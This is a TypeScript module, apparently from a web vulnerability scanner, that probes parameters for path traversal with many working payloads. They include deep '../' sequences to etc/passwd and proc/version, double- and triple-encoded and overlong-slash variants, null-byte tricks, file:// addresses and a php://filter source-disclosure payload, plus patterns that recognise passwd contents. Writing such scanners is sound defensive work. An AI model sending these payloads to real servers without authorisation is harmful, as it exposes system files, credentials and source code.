import { cweReference, scored } from '../../core/definition.ts';
import { ownFiles, showsFile } from '../attack/own-files.ts';
import { depthWhereStored } from '../attack/storing.ts';
import { type Answer, control, mayNameWrittenFile, mayWiden, proof, repeat, Trial } from '../attack/trial.ts';
import type { PointCheck, SendOptions, WebDefinition, WebSighting } from '../check.ts';
import type { InjectionPoint } from '../crawl/point.ts';
import { isProgram } from '../crawl/template.ts';
import { type Evidence, filled } from '../evidence.ts';

const DEFINITION: WebDefinition = {
  key: 'path-traversal',
  family: 'Files',
  name: { it: 'Path traversal', en: 'Path traversal' },
  description: {
    it: 'Il valore di un parametro diventa parte del percorso di un file, e può uscire dalla cartella prevista. Chi lo invia legge file del server: configurazioni, password, codice sorgente; se il file viene incluso come codice, può arrivare a eseguirne di proprio.',
    en: 'The value of a parameter becomes part of a file path and can leave the intended folder. An attacker can read files of the server: configuration, passwords, source code; where the file is included as code, they may be able to run their own.',
  },
  solution: {
    it: 'Scegliere il file da un elenco fisso in base a una chiave. Dove serve un nome, risolvere il percorso per intero e verificare che sia dentro la cartella prevista prima di aprirlo.',
    en: 'Select the file from a fixed list by a key. Where a name is needed, resolve the whole path and check that it is inside the intended folder before opening it.',
  },
  scores: scored(['AV:N/AC:L/Au:N/C:C/I:N/A:N', 7.8], ['AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N', 7.5]),
  cves: [],
  cwes: ['CWE-22', 'CWE-98'],
  owasp: { y2021: 'A01:2021', y2025: 'A01:2025' },
  references: [cweReference(22), cweReference(98)],
};

/** A file that every system of its kind has, and what stands in it: all of these. */
interface KnownFile {
  readonly name: string;
  readonly shape: RegExp | readonly RegExp[];
}

/** As it stands in the file; its beginning in base64 and in hexadecimal digits, as scripts are given contents of files. */
export const PASSWD = {
  name: 'etc/passwd',
  shape:
    /\broot:[^:\s]{0,80}:0:0:[^:\n]{0,80}:[^:\n]{1,80}:|\bcm9vdDp4OjA6MD[A-Za-z0-9+/]{16}|\b726f6f743a783a303a303a[0-9a-f]{16}/i,
} as const satisfies KnownFile;
/** Of a file system that nobody can write: a value names no other file until its answers speak for a program that reads. */
const VERSION: KnownFile = {
  name: 'proc/version',
  shape:
    /\bLinux version \d{1,2}\.\d{1,3}[\w.+-]{0,60} \(|\bTGludXggdmVyc2lvbi[A-Za-z0-9+/]{16}|\b4c696e75782076657273696f6e20[0-9a-f]{16}/i,
};
const WIN_INI: KnownFile = {
  name: 'windows/win.ini',
  shape: /; for 16-bit app support|\[(?:fonts|extensions|mci extensions)\]\s{0,4}\r?\n\[?/i,
};
const WEB_XML: KnownFile = {
  name: 'WEB-INF/web.xml',
  shape: /<(?:web-app|display-name|servlet-name|welcome-file-list)\b|&lt;web-app\b/i,
};
/** A usual value that names one of these files: its answer shows the file as well. */
const NAMES_KNOWN_FILE = /\betc[\\/]passwd|proc[\\/]version|windows[\\/]win\.ini|WEB-INF[\\/]web\.xml/i;
/** A folder whose names every Linux system has. */
const ETC: KnownFile = {
  name: 'etc',
  shape: [
    /\bpasswd\b/,
    /\bgroup\b/,
    /\bhosts\b/,
    /\bhostname\b|\bfstab\b|\bshadow\b/,
    /\bprofile\b|\bshells\b|\bservices\b/,
  ],
};
/** What a program is written in, and a server never shows. */
const SOURCE = /(?:<|&lt;)(?:%@\s{0,4}(?:page|include|taglib|language|control|master)\b|\?php\b)/i;
/** The start of a PHP file in base64: `<?php` and what may follow, in its three positions. */
const PHP_SOURCE = /\bPD9waH[AC-]?[A-Za-z0-9+/]{8}/;

interface Payload {
  readonly how: Evidence;
  readonly value: string;
  readonly shape: KnownFile['shape'];
  /** The same request for a file that is nowhere. */
  readonly missing: string;
  readonly options?: SendOptions;
  /** The same path to a file whose size is not 0: some programs send nothing of files in /proc. */
  readonly ofSize?: Payload;
}

const UP = 9;
/** Behind the ways that most programs leave open. */
const PASSWD_AT = 8;
/** For a parameter that names a file and decides over the answer. */
const LIKELY_PAYLOADS = 10;
/** For one whose answer is the same for any name; of a program in Java the files of its own application as well. */
const UNDECIDED_PAYLOADS = { java: 7, other: 3 };

/**
 * Another program of the same folder: the page that led here, or the folder's first one. Never the page itself, which
 * would include itself without end.
 */
function neighbourOf({ request, page }: InjectionPoint): string | null {
  const [own, leading] = [request.url, page].map((url) => URL.parse(url)?.pathname ?? '/');
  const [folder = '', leadingFolder = ''] = [own, leading].map((path) => path?.replace(/[^/]*$/, ''));
  const [name = '', leadingName = ''] = [own, leading].map((path) => path?.replace(/^.*\//, ''));
  if (!isProgram(name)) return null;
  if (leadingFolder === folder && isProgram(leadingName) && leadingName !== name) return leadingName;
  const first = name.replace(/^.*\./, 'index.');
  return first === name ? null : first;
}

const pathOf = ({ request: { url } }: InjectionPoint) => URL.parse(url)?.pathname ?? '/';
const RUNS_JAVA = /\.(?:jspx?|jsf|do|action)$/i;
const RUNS_OTHER = /\.(?:php\d?|phtml|aspx?|cfm|py|rb|pl)$/i;

interface HowRead {
  readonly mayBeFolder: boolean;
  /** A file that could be replaced may be named. */
  readonly isRead: boolean;
}

function payloadsFor(point: InjectionPoint, missingName: string, { mayBeFolder, isRead }: HowRead): readonly Payload[] {
  const { value } = point;
  const path = pathOf(point);
  const system = VERSION;
  const payload = (how: Evidence, file: KnownFile, spell: (name: string) => string, raw = false): Payload => {
    const missing = file.name.replace(/[^/]+$/, missingName);
    return {
      how,
      value: spell(file.name),
      shape: file.shape,
      missing: spell(missing),
      ...(raw && { options: { raw } }),
      ...(file === VERSION && { ofSize: payload(how, PASSWD, spell, raw) }),
    };
  };
  const up = (step: string, times = UP) => step.repeat(times);
  const folder = value.includes('/') ? value.slice(0, value.lastIndexOf('/') + 1) : '';
  const ending = endingOf(value) ?? '';
  const hex = (name: string) => name.replaceAll('/', '%2f');
  const php: Payload = {
    how: { it: 'un filtro PHP', en: 'a PHP filter' },
    value: `php://filter/convert.base64-encode/resource=${value}`,
    shape: PHP_SOURCE,
    missing: `php://filter/convert.base64-encode/resource=${missingName}`,
  };
  const ofApplication = [
    payload({ it: 'la cartella dell’applicazione', en: 'the application folder' }, WEB_XML, (name) => `/${name}`),
    payload({ it: 'passi verso l’applicazione', en: 'steps up to the application' }, WEB_XML, (name) => `../${name}`),
    payload(
      { it: 'più passi verso l’applicazione', en: 'more steps up to the application' },
      WEB_XML,
      (name) => `../../${name}`,
    ),
  ];
  const neighbour = isRead ? neighbourOf(point) : null;
  const source = (before: string): Payload => ({
    how: { it: 'il sorgente di un programma', en: 'the source of a program' },
    value: `${before}${neighbour}`,
    shape: SOURCE,
    missing: `${before}${missingName}${neighbour}`,
  });
  const list = [
    payload({ it: 'passi verso l’alto', en: 'steps up' }, system, (name) => up('../') + name),
    // Absolute as well, where nothing stands before it.
    payload(
      { it: 'passi verso l’alto dopo una barra', en: 'steps up behind a slash' },
      system,
      (name) => `/${up('../')}${name}`,
    ),
    payload({ it: 'un indirizzo file:', en: 'a file address' }, system, (name) => `file:///${name}`),
    payload({ it: 'un percorso assoluto', en: 'an absolute path' }, system, (name) => `/${name}`),
    payload({ it: 'passi raddoppiati', en: 'doubled steps' }, system, (name) => up('....//') + name),
    payload(
      { it: 'passi verso l’alto e un byte nullo', en: 'steps up and a null byte' },
      system,
      (name) => `${up('../')}${name}\0${ending}`,
    ),
    payload(
      { it: 'passi codificati due volte', en: 'steps encoded twice' },
      system,
      (name) => up('%252e%252e%252f') + name.replaceAll('/', '%252f'),
      true,
    ),
    ...(RUNS_JAVA.test(path) ? [] : [php]),
    // What is decoded, looked at and decoded once more.
    payload(
      { it: 'passi codificati tre volte', en: 'steps encoded three times' },
      system,
      (name) => up('%25252e%25252e%25252f') + name.replaceAll('/', '%25252f'),
      true,
    ),
    // Lists of forbidden names do not know it.
    payload(
      { it: 'passi verso un nome scritto in altro modo', en: 'steps up to a name in another spelling' },
      system,
      (name) => up('..././') + name.replace('/', '/./'),
    ),
    payload(
      { it: 'passi verso l’alto, Windows', en: 'steps up, Windows' },
      WIN_INI,
      (name) => up('..\\') + name.replaceAll('/', '\\'),
    ),
    ...(RUNS_JAVA.test(path) || RUNS_OTHER.test(path) ? [] : ofApplication),
    payload({ it: 'un percorso assoluto, Windows', en: 'an absolute path, Windows' }, WIN_INI, (name) => `C:/${name}`),
    payload(
      { it: 'passi interamente codificati', en: 'steps with everything encoded' },
      system,
      (name) => up('%2e%2e%2f') + hex(name),
      true,
    ),
    payload(
      { it: 'barre in codifica lunga', en: 'overlong slashes' },
      system,
      (name) => up('..%c0%af') + name.replaceAll('/', '%c0%af'),
      true,
    ),
    payload(
      { it: 'un indirizzo file:, Windows', en: 'a file address, Windows' },
      WIN_INI,
      (name) => `file:///C:/${name}`,
    ),
    payload(
      { it: 'passi chiusi da un punto interrogativo', en: 'steps up cut by a question mark' },
      system,
      (name) => `file:///${name}?`,
    ),
    payload(
      { it: 'un indirizzo file: chiuso da un cancelletto', en: 'a file address cut by a hash' },
      system,
      (name) => `file:///${name}#`,
    ),
    payload(
      { it: 'passi con entrambe le barre', en: 'steps in both directions' },
      system,
      (name) => up('..\\/') + name,
    ),
    payload(
      { it: 'passi tra punti e virgola', en: 'steps between semicolons' },
      system,
      (name) => up('..;/') + name,
      true,
    ),
    payload(
      { it: 'un percorso lungo', en: 'a long path' },
      system,
      (name) => `${up('../')}${name}${'/.'.repeat(2_048)}`,
    ),
    payload(
      { it: 'un byte nullo dopo un percorso assoluto', en: 'a null byte behind an absolute path' },
      system,
      (name) => `/${name}\0${ending}`,
    ),
  ];
  const folders = [
    payload({ it: 'una cartella assoluta', en: 'an absolute folder' }, ETC, (name) => `/${name}`),
    payload({ it: 'passi verso una cartella', en: 'steps up to a folder' }, ETC, (name) => up('../') + name),
  ];
  const extra: Payload[] = RUNS_JAVA.test(path) ? [...ofApplication.slice(0, 1)] : [];
  if (neighbour !== null) extra.push(source(''), source('/'));
  // A prefix that is checked for, and an ending that is.
  if (folder !== '')
    extra.push(
      payload(
        { it: 'passi verso l’alto dopo la cartella', en: 'steps up behind the folder' },
        system,
        (name) => folder + up('../') + name,
      ),
    );
  if (ending !== '') {
    if (!RUNS_JAVA.test(path)) extra.push({ ...php, value: php.value.slice(0, -ending.length) });
    extra.push(
      payload(
        { it: 'passi verso l’alto dopo un nome simile', en: 'steps up behind a name like it' },
        system,
        (name) => `${value}q/${up('../')}${name}`,
      ),
    );
  }
  if (RUNS_JAVA.test(path)) extra.push(...ofApplication.slice(1));
  // Systems other than Linux have no file of the first kind.
  if (isRead)
    list.splice(
      PASSWD_AT,
      0,
      payload({ it: 'passi verso l’alto', en: 'steps up' }, PASSWD, (name) => up('../') + name),
      payload({ it: 'un percorso assoluto', en: 'an absolute path' }, PASSWD, (name) => `/${name}`),
    );
  const all = [...(mayBeFolder ? folders : []), ...list.slice(0, 4), ...extra, ...list.slice(4)];
  return isRead ? all : all.filter(({ shape }) => shape !== WIN_INI.shape && shape !== WEB_XML.shape);
}

const namesFolder = ({ name, value }: InjectionPoint) =>
  /dir|folder|path|cartell|percorso|browse|ordner|carpeta|dossier|explor/i.test(name) || /\/$|^\.{1,2}$/.test(value);

const NAMED_AS_FILE =
  /file|path|page|doc|template|tpl|theme|lang|locale|include|inc\b|dir|folder|load|view|content|img|image|photo|pic|src|style|skin|module|plugin|report|download|attach|url|uri|target|read|name|layout|conf|log|pdf|resource|cat\b|pagin|percorso|cartell|modul|modell|lingua|immagin|allegat|scaric|nome|datei|pfad|seite|fichier|chemin|archiv|ruta/i;

/** Numbers, addresses of machines, dates, kinds of media and the site's own root have dots and slashes as well. */
const NO_FILE =
  /^[\d.,:-]+$|^\d{1,4}\/\d{1,2}\/\d{1,4}$|^(?:text|image|audio|video|application|mozilla)\/|^https?:\/\/[^/?#]*\/?$/i;

const looksLikeFile = (value: string) =>
  /^[\w./\\: -]{0,200}\.[A-Za-z0-9]{1,5}$|[/\\]/.test(value) && !NO_FILE.test(value);

function shows({ shape }: Payload, { text }: Answer): string | null {
  const found = [shape].flat().map((one) => one.exec(text)?.[0]);
  return found.includes(undefined) ? null : (found[0] ?? null);
}

function mostPayloads(trial: Trial, named: boolean, decides: boolean): number {
  const { payloads } = trial.tools.depth;
  if (trial.atLeast('high')) return payloads;
  if (!named) return trial.atLeast('default') ? 3 : 1;
  const undecided = UNDECIDED_PAYLOADS[RUNS_JAVA.test(pathOf(trial.point)) ? 'java' : 'other'];
  return decides ? Math.max(payloads, LIKELY_PAYLOADS) : trial.atLeast('default') ? payloads : undecided;
}

/** A name, with its folder or without; numbers name no files. */
const MAY_BE_NAME = /^(?!\d+$)\w[\w./-]+$/;

/** For one that is read as a path: tricks with endings as well. */
const FILE_PAYLOADS = 27;

/**
 * Whether the value is read as a path: the same file in another spelling is answered as usual, and what is no path to it
 * is not. Filters that take signs out, or keep the last part alone, answer one of the latter as usual.
 */
async function isReadAsPath(trial: Trial): Promise<boolean> {
  const { value } = trial.point;
  const again = value.includes('/') ? value.replace('/', '/./') : `./${value}`;
  if (!trial.isUsual(await trial.send(again))) return false;
  const name = value.lastIndexOf('/') + 1;
  const middle = name + Math.ceil((value.length - name) / 2);
  const others = [`${trial.tools.token()}/${value}`, `.${value}`, `${value.slice(0, middle)}./${value.slice(middle)}`];
  for (const other of others) {
    const answer = await trial.send(other);
    if (!answer.exchange.response || trial.isUsual(answer)) return false;
  }
  return true;
}

/**
 * Whether a name that is not there is refused, and the usual one is not: a program that writes makes a file of it instead,
 * and a file that is there must not be named to it.
 */
function refusesMissing({ control, other }: Trial): boolean {
  return !refuses(control) && refuses(other);
}

const refuses = ({ exchange, text }: Answer) => (exchange.response?.status ?? 0) >= 400 || NOT_OPENED.test(text);

/** A file in /proc has no size: a server that sends as many bytes as the size says answers nothing. */
const isEmpty = ({ exchange, text }: Answer) => exchange.response?.status === 200 && text.trim() === '';

/** Behind what a server cuts off from the end of a value. */
function dummyEndings(point: InjectionPoint, missingName: string): readonly Payload[] {
  const own = endingOf(point.value);
  const { name, shape } = VERSION;
  return (own === undefined ? ['.php', '.html'] : [own]).map((ending) => ({
    how: { it: 'passi verso l’alto e una finta estensione', en: 'steps up and a dummy ending' },
    value: `${'../'.repeat(UP)}${name}${ending}`,
    shape,
    missing: `${'../'.repeat(UP)}${name.replace(/[^/]+$/, missingName)}${ending}`,
  }));
}

const endingOf = (value: string) => /\.[A-Za-z0-9]{1,5}$/.exec(value)?.[0];

/** Ways out of the folder that the value begins in. */
const STEPS = ['../', '../../', '....//'];

/**
 * A value between a folder and an ending names no file that every system has: a file of the site itself from another
 * folder is asked for, which shows the text that its own address shows. The same name without the steps must not, nor one
 * that is nowhere.
 */
async function byOwnFile(trial: Trial): Promise<WebSighting | null> {
  if (!mayWiden(trial.point)) return null;
  const { value } = trial.point;
  const folder = value.slice(0, value.lastIndexOf('/') + 1);
  const ending = endingOf(value);
  const cut = (path: string) => (ending === undefined ? path.replace(/\.[A-Za-z0-9]{1,5}$/, '') : path);
  for (const file of await ownFiles(trial, (own) => ending === undefined || own === ending)) {
    const spell = (steps: string, path: string) => `${folder}${steps}${cut(path)}`;
    const shown = async (spelled: string) => {
      const answer = await trial.send(spelled);
      return { answer, isShown: showsFile(file, answer.text) };
    };
    for (const steps of STEPS) {
      const first = await shown(spell(steps, file.path));
      if (!first.isShown) continue;
      const missing = await shown(
        spell(
          steps,
          file.path.replace(/[^/]+$/, (name) => `${trial.tools.token()}${name}`),
        ),
      );
      const inside = await shown(spell('', file.path));
      const again = await shown(spell(steps, file.path));
      if (missing.isShown || inside.isShown || !again.isShown) break;
      const evidence = filled(
        {
          it: 'Il valore esce dalla cartella prevista: “{value}” mostra il contenuto di {path}, un file del sito in un’altra cartella; lo stesso nome senza i passi verso l’alto, o un file che non esiste, non lo mostra.',
          en: 'The value leaves the folder it was meant for: “{value}” shows the content of {path}, a file of the site in another folder; the same name without the steps up, or a file that does not exist, does not.',
        },
        { value: first.answer.value, path: file.path },
      );
      const text = file.texts[0] ?? '';
      return trial.sighting(DEFINITION.key, evidence, [
        proof(first.answer, text),
        control(missing.answer),
        repeat(again.answer, text),
        control(inside.answer),
      ]);
    }
  }
  return null;
}

/** What programs say of a file that they wanted to open and did not find. */
const NOT_OPENED =
  /failed to open stream|no such file or directory|\bENOENT\b|FileNotFound(?:Error|Exception)|could not find (?:file|a part of the path)|cannot find the (?:file|path) specified/i;
const NEAR = 300;
/** A path that does not begin at the root is one where a function was given it. */
const GIVEN_TO =
  /\b(?:(?:include|require)(?:_once)?|fopen|readfile|file_get_contents|file|show_source|highlight_file|open)\(\s{0,4}['"]?([\w./\\-]{0,200})$/i;

/** The path that such a message names, with this word in it and more before it than was sent; null: it names none. */
function pathNamed({ text, value }: Answer, word: string): string | null {
  for (let at = text.indexOf(word); at >= 0; at = text.indexOf(word, at + 1)) {
    if (!NOT_OPENED.test(text.slice(Math.max(0, at - NEAR), at + NEAR))) continue;
    const near = text.slice(Math.max(0, at - NEAR), at);
    const given = GIVEN_TO.exec(near)?.[1];
    if (given !== undefined) return given + word;
    const before = /(?:\/|[A-Za-z]:[\\/])[^\s"'<>()[\]]{0,300}$/.exec(near)?.[0] ?? '';
    if (before !== '' && !value.startsWith(before)) return before + word;
  }
  return null;
}

/**
 * The program names the path that it tried to open: with steps up in the value it lies above the folder that it lies in
 * without them. What is there is not shown, since an ending is put behind the value.
 */
async function byOpenFailure(trial: Trial): Promise<WebSighting | null> {
  const { other, tools } = trial;
  const inside = pathNamed(other, other.value);
  if (inside === null) return null;
  const folder = inside.slice(0, -other.value.length);
  const climb = async () => {
    const word = tools.token();
    const answer = await trial.send(`../../${word}`);
    const path = pathNamed(answer, word);
    const isAbove = path !== null && (path.endsWith(`../../${word}`) || !path.startsWith(folder));
    return isAbove ? { answer, path } : null;
  };
  const first = await climb();
  const again = first && (await climb());
  if (!again) return null;
  const evidence = filled(
    {
      it: 'Il server cerca di aprire un file fuori dalla cartella prevista e ne nomina il percorso: “{value}” diventa {path}, mentre “{plain}” diventa {inside}. Il contenuto di un file non è stato letto.',
      en: 'The server tries to open a file outside of the intended folder and names its path: “{value}” becomes {path}, while “{plain}” becomes {inside}. No file was read.',
    },
    { value: first.answer.value, path: first.path, plain: other.value, inside },
  );
  const messages = [proof(first.answer, first.path), control(other), repeat(again.answer, again.path)];
  return trial.sighting(DEFINITION.key, evidence, messages, true);
}

/** A long text in base64 that is the source of a program once it is decoded. */
function sourceIn(text: string): string | null {
  const runs = text.match(/[A-Za-z0-9+/]{60,}={0,2}/g) ?? [];
  return runs.find((run) => /<\?(?:php\b|=)/.test(Buffer.from(run, 'base64').toString('latin1'))) ?? null;
}

const ENDING_BEHIND = /^[\w.-]{0,20}(?=['")])/;

/**
 * The message names the value as the beginning of the path, with an ending behind it: a filter of PHP then reads the program
 * of the page itself, without running it.
 */
async function byOwnProgram(trial: Trial): Promise<WebSighting | null> {
  const { other, tools, point } = trial;
  if (!mayWiden(point)) return null;
  if (pathNamed(other, other.value) !== other.value) return null;
  const ending = ENDING_BEHIND.exec(other.text.slice(other.text.indexOf(other.value) + other.value.length))?.[0] ?? '';
  const own = pathOf(point).replace(/^.*\//, '');
  const program = isProgram(own) ? own : `index${ending === '' ? '.php' : ending}`;
  if (!program.endsWith(ending)) return null;
  const read = (name: string) => trial.send(`php://filter/convert.base64-encode/resource=${name}`);
  const name = program.slice(0, program.length - ending.length);
  const first = await read(name);
  const shown = sourceIn(first.text);
  if (shown === null) return null;
  const [missing, again] = [await read(`${tools.token()}${name}`), await read(name)];
  if (sourceIn(missing.text) !== null || sourceIn(again.text) === null) return null;
  const evidence = filled(
    {
      it: 'La risposta contiene il codice sorgente di {program}, codificato da un filtro PHP: “{value}”; lo stesso per un file che non esiste non mostra nulla. Il server aggiunge “{ending}” al valore.',
      en: 'The answer holds the source code of {program}, encoded by a PHP filter: “{value}”; the same for a file that does not exist shows none. The server adds “{ending}” to the value.',
    },
    { program, value: first.value, ending },
  );
  const mark = shown.slice(0, 60);
  return trial.sighting(DEFINITION.key, evidence, [proof(first, mark), control(missing), repeat(again, mark)]);
}

export const pathTraversal = {
  code: 'path_traversal',
  name: { it: 'File del server', en: 'Files of the server' },
  kind: 'point',
  from: 'low',
  definitions: [DEFINITION],
  wants: (point) => !mayNameWrittenFile(point),
  async attack(point, tools) {
    const trial = await Trial.begin(point, tools, depthWhereStored(point, tools));
    if (!trial) return [];
    const named = NAMED_AS_FILE.test(point.name) || looksLikeFile(point.value);
    // A name of a file that is not there is answered otherwise than the file; or there is no such file as the page names.
    const decides = !trial.isUsual(trial.other) || looksLikeFile(point.value);
    if (!named && trial.isIgnored && !trial.atLeast('high')) return [];
    const most = mostPayloads(trial, named, decides);
    // Servers themselves read the path of an address so.
    const mayBePath =
      (named || trial.atLeast('default')) &&
      point.kind !== 'path' &&
      MAY_BE_NAME.test(point.value) &&
      !trial.isUsual(trial.other);
    const isPath = mayBePath && (await isReadAsPath(trial));
    const isRead = mayWiden(point) && (isPath || refusesMissing(trial));
    const all = payloadsFor(point, tools.token(), {
      mayBeFolder: namesFolder(point) || (isPath && endingOf(point.value) === undefined),
      isRead,
    });
    // A name without an ending has one put behind it: then nothing but a file of the site fits.
    const first = isPath && endingOf(point.value) === undefined ? await byOwnFile(trial) : null;
    if (first) return [first];
    const payloads = isPath
      ? [...dummyEndings(point, tools.token()), ...all.slice(0, Math.max(most, FILE_PAYLOADS))]
      : all.slice(0, mayBePath ? most - 1 : most);
    const waiting = [...payloads];
    for (let payload = waiting.shift(); payload; payload = waiting.shift()) {
      const answer = await trial.send(payload.value, payload.options);
      const shown = shows(payload, answer);
      // A program that writes fails at this file and makes the missing one: only one that reads refuses the missing one alone.
      if (payload.ofSize && mayWiden(point) && isEmpty(answer)) {
        if (refuses(await trial.send(payload.missing, payload.options))) waiting.unshift(payload.ofSize);
        continue;
      }
      // A page that shows such lines always, or shows them for any file, proves nothing.
      if (shown === null || shows(payload, trial.other) !== null) continue;
      if (!NAMES_KNOWN_FILE.test(point.value) && shows(payload, trial.control) !== null) continue;
      const missing = await trial.send(payload.missing, payload.options);
      if (shows(payload, missing) !== null) continue;
      const again = await trial.send(payload.value, payload.options);
      if (shows(payload, again) === null) continue;
      const evidence = filled(
        {
          it: 'La risposta contiene un file del server ({how}): “{value}” mostra “{shown}”; lo stesso per un file che non esiste non mostra nulla.',
          en: 'The content of a file of the server is answered ({how}): “{value}” shows “{shown}”; the same for a file that does not exist shows none.',
        },
        { how: payload.how, value: payload.value.slice(0, 200), shown: shown.slice(0, 120).trim() },
      );
      return [trial.sighting(DEFINITION.key, evidence, [proof(answer, shown), control(missing), repeat(again, shown)])];
    }
    const found =
      (isPath && endingOf(point.value) !== undefined ? await byOwnFile(trial) : null) ??
      (await byOwnProgram(trial)) ??
      (await byOpenFailure(trial));
    return found ? [found] : [];
  },
} as const satisfies PointCheck;
